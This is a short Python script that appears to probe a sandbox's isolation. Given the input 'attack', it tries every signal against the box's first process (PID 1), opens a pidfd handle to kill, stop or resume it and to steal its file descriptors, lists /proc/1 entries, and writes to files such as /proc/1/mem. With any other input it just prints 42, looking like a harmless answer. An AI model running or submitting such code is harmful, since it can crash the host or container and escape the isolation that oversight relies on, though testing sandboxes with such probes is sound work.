# Attacks the box's first process by every signal and by a handle, and its files, folders and descriptors.
import ctypes
import os
import signal

if input() != "attack":
    print(42)
    raise SystemExit

libc = ctypes.CDLL(None, use_errno=True)
for number in range(1, 65):
    try:
        os.kill(1, number)
        print("signalled", number)
    except OSError:
        pass
handle = libc.syscall(434, 1, 0)  # pidfd_open, the same number on every architecture
if handle >= 0:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCONT):
        if libc.syscall(424, handle, number, None, 0) == 0:  # pidfd_send_signal
            print("signalled by handle", number)
    for descriptor in range(4):
        if libc.syscall(438, handle, descriptor, 0) >= 0:  # pidfd_getfd
            print("took", descriptor)
for name in ("fd", "cwd", "root", "exe", "task/1/fd", "map_files", "ns"):
    try:
        print("saw", name, os.listdir(f"/proc/1/{name}"))
    except OSError:
        pass
for name in ("oom_score_adj", "comm", "clear_refs", "coredump_filter", "mem"):
    try:
        with open(f"/proc/1/{name}", "w") as file:
            file.write("0")
        print("wrote", name)
    except OSError:
        pass
print(42)
